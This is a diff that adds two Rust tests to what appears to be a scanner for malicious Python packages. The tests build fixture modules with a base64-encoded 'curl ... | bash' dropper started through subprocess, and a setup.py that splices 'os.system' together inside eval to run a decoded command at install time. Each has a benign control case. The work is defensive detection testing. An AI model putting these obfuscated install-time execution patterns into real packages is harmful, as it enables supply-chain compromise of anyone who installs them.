@@ -656,3 +656,36 @@ fn an_l111_obfuscated_command_run_at_install_is_decoded_and_malicious() {
         r.findings
     );
 }
+
+#[test]
+fn a_base64_shell_dropper_started_by_its_function_is_malicious() {
+    // modularseven: "curl https://... | bash" in base64 through a local decoder.
+    use base64::Engine as _;
+    let cmd =
+        base64::engine::general_purpose::STANDARD.encode("curl http://127.0.0.1:9/x.sh | bash");
+    let module = format!(
+        "import base64, subprocess\n\ndef decode_str(s):\n    return base64.b64decode(s).decode()\n\ndef processing():\n    command = [decode_str('{cmd}')]\n    subprocess.Popen(command)\n"
+    );
+    let r = sdist(&[("setup.py", SETUP), ("pkg/processor.py", &module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Base64 of plain text that is no command is nothing.
+    let text =
+        base64::engine::general_purpose::STANDARD.encode("just a long sentence of plain text");
+    let module = format!(
+        "import base64, subprocess\n\ndef show():\n    print(base64.b64decode('{text}').decode())\n    subprocess.run(['ls'])\n"
+    );
+    let r = sdist(&[("setup.py", SETUP), ("pkg/processor.py", &module)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn os_system_spliced_from_string_pieces_and_evaluated_at_install_is_malicious() {
+    // dfshoesadsm: eval("o"+'s.s'+"y"+'s'+"te"+'m')(decoded command).
+    let setup = "import base64\nfrom setuptools import setup\ncmd = base64.b64decode(('ZW' + 'NobyBo' + 'aQ==').encode()).decode()\nrun = eval(\"o\" + 's.s' + \"y\" + 's' + \"te\" + 'm')\nrun(cmd)\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A literal evaluated whole is not spliced.
+    let setup = "from setuptools import setup\nVERSION = eval('(1, 2, 3)')\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
